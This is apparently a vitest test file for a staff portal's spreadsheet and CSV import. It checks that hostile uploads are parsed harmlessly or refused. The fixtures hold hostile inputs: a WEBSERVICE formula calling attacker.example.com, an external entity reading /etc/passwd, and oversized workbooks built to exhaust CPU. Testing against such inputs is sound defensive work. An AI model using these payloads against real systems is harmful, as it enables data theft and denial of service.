import { strToU8, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { listImportRows } from '@portal/contract/import-rows'
import { limits } from '@portal/contract/shared/limits'
import * as tables from '../../database/schema.ts'
import { newStaff } from '../../testing/factories.ts'
import { imported, upload, uploadFile, validated } from '../../testing/imports.ts'
import { usePortal } from '../../testing/portal.ts'

const portal = usePortal()
const cell = (reference: string, text: string) => `<c r="${reference}" t="str">${text}</c>`
const workbook = (sheet: string, more: Readonly<Record<string, string>> = {}): Buffer =>
  Buffer.from(
    zipSync({
      'xl/workbook.xml': strToU8('<workbook><sheets><sheet name="People" r:id="r1"/></sheets></workbook>'),
      'xl/_rels/workbook.xml.rels': strToU8('<Relationships><Relationship Id="r1" Target="worksheets/sheet1.xml"/></Relationships>'),
      'xl/worksheets/sheet1.xml': strToU8(`<worksheet><sheetData>${sheet}</sheetData></worksheet>`),
      ...Object.fromEntries(Object.entries(more).map(([name, text]) => [name, strToU8(text)])),
    }),
  )
const headings = `<row r="1">${cell('A1', '<v>Name</v>')}${cell('B1', '<v>Email</v>')}</row>`
/** Problems of the rows after validation. */
const problemsOf = async (content: string | Buffer) => {
  const staff = await newStaff(portal)
  const { id } = await upload(portal, staff, content)
  const { problems, counts } = await validated(portal, staff, id)
  return { staff, id, counts, problems: problems.map(({ field, code, message, fixes }) => ({ field, code, message, fixes })) }
}

describe('a hostile file', () => {
  it('with external links, scripts and entities is parsed as plain cell texts, without any request', async () => {
    const formula = `<f>[1]Sheet1!A1&amp;WEBSERVICE("http://attacker.example.com")</f><v>Asha Patel</v>`
    const row = `<row r="2">${cell('A2', formula)}${cell('B2', '<v>asha.links@example.com</v>')}</row>`
    const links = {
      'xl/externalLinks/externalLink1.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><externalLink>&e;</externalLink>',
      'xl/vbaProject.bin': 'MZ',
    }
    const read = await upload(portal, await newStaff(portal), workbook(headings + row, links), 'people.xlsx')
    expect(read.preview[1]).toEqual(['Asha Patel', 'asha.links@example.com'])
  })

  it('is recognised by its content, regardless of its extension', async () => {
    const staff = await newStaff(portal)
    const sheet = workbook(`${headings}<row r="2">${cell('A2', '<v>Asha Patel</v>')}${cell('B2', '<v>a@example.com</v>')}</row>`)
    expect((await upload(portal, staff, sheet, 'people.csv')).format).toBe('xlsx')
    expect((await upload(portal, staff, 'Name,Email\nAsha Patel,a@example.com\n', 'people.xlsx')).format).toBe('csv')
  })

  it('with lone surrogates and NULs reports the rows and offers a repair', async () => {
    const text = `\ufeffName,Email\nAsha \ud83d Patel,half@example.com\nRavi\u0000 Shah,nul@example.com\n`
    const { problems, counts } = await problemsOf(Buffer.from(text, 'utf16le'))
    expect(counts).toMatchObject({ rows: 2, errors: 2 })
    expect(problems).toEqual([
      expect.objectContaining({ field: 'full_name', code: 'unreadable', message: "Remove the characters that can't be displayed." }),
    ])
    expect(problems[0]?.fixes).toContain('clean')
  })

  it('with names of 300 characters states the maximum and offers to shorten them', async () => {
    const { problems } = await problemsOf(`First name,Last name,Email\n${'अ'.repeat(300)},Patel,long@example.com\n`)
    expect(problems).toEqual([
      expect.objectContaining({ field: 'first_name', code: 'too_long', message: `Use at most ${limits.name} characters.` }),
    ])
    expect(problems[0]?.fixes).toContain('shorten')
  })

  it('with numbers shortened by Excel names the remedy; lost leading zeros and mixed scripts are parsed', async () => {
    const rows = [
      'Name,Email,Mobile,PIN code,City',
      'Cut Short,cut@example.com,9.88E+09,380009,Ahmedabad',
      'Asha पटेल,zero@example.com,09825012345,380 009,Ahmedabad',
      'रवि Shah,lost@example.com,9825012346.0,380009.0,Ahmedabad',
      'दीपा शर्मा,hindi@example.com,9825012347,380009,अहमदाबाद',
    ]
    const { staff, id, problems, counts } = await problemsOf(rows.join('\n'))
    expect(problems.map(({ message }) => message)).toContain(
      'Excel has shortened this number. Format the column as text in the file, and upload it again.',
    )
    const errors = await portal.call(listImportRows, { token: staff.token, params: { id: String(id) }, query: { show: 'errors' } })
    const wrong = errors.body.data.rows.map(({ cells, problems: rowProblems }) => [cells[0], rowProblems.map(({ code }) => code)])
    // A city in Hindi isn't in the list: one choice repairs all of its rows.
    expect(wrong).toEqual([
      ['Cut Short', ['mobile_rounded']],
      ['दीपा शर्मा', ['not_in_list']],
    ])
    expect(counts).toMatchObject({ rows: 4, create: 2 })
    await imported(portal, staff, id)
    const stored = await portal.ctx.database.db.select().from(tables.candidates)
    const found = stored.filter(({ email }) => /^(?:cut|zero|lost|hindi)@/.test(email)).map(({ mobile_no, zip }) => `${mobile_no} ${zip}`)
    expect(found.toSorted()).toEqual(['9825012345 380009', '9825012346 380009'])
  })

  it('is refused within two seconds of CPU time, and leaves nothing behind', async () => {
    const staff = await newStaff(portal)
    const before = await portal.ctx.database.db.$count(tables.imports)
    const hostile = [
      workbook(' '.repeat(200_000_000)),
      workbook(`${headings}<row r="1000000000">${cell('A1', '<v>x</v>')}</row>`),
      workbook(`${headings}<row r="2">${cell('NTP2', '<v>x</v>')}</row>`),
      workbook(headings).subarray(0, 300),
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.from(`Name,Email\n"${'x'.repeat(2_000_000)}`),
    ]
    for (const content of hostile) {
      const busy = process.cpuUsage()
      const { status, problem } = await uploadFile(portal, staff, 'people.xlsx', content)
      const { user, system } = process.cpuUsage(busy)
      expect([status, problem.errors?.['file']?.length]).toEqual([422, 1])
      // Processor time, because tests running in parallel share the machine.
      expect((user + system) / 1000).toBeLessThan(2000)
    }
    expect(await portal.ctx.database.db.$count(tables.imports)).toBe(before)
  })
})
